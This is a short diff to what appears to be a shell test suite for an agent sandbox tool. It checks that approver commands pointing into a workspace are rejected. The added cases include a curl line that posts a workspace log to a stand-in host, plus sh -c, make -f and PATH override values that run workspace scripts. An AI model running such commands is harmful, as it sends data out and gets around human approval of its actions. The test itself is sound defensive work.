@@ -162,7 +162,8 @@ for p in "own.sock", os.path.expanduser("~/docker.sock"): socket.socket(socket.A
 	for approver in ./appr.sh "$WORKSPACE/appr.sh" "sh $WORKSPACE/appr.sh" "$HOME/appr" \
 		"cd $WORKSPACE && ./appr.sh" "cd ~/project; sh appr.sh" '$HOME/project/appr.sh' \
 		"cat >$WORKSPACE/log" "cat | tee -a ~/project/log" "sh -c '. $WORKSPACE/appr.sh'" \
-		"PATH=$WORKSPACE:\$PATH appr.sh" 'x=appr.sh; "$y/$x"' "env PYTHONPATH=$WORKSPACE true"; do
+		"PATH=$WORKSPACE:\$PATH appr.sh" 'x=appr.sh; "$y/$x"' "env PYTHONPATH=$WORKSPACE true" \
+		"cd ~; sh project/appr.sh" 'cd "$X" && sh appr.sh' "make -f$WORKSPACE/appr.sh" "curl -d @$WORKSPACE/log h.test"; do
 		agentbox run --unknown ask --approver "$approver" -- true
 		[ "$status" -eq 125 ]
 		[[ "$output" == *"--approver"* ]]
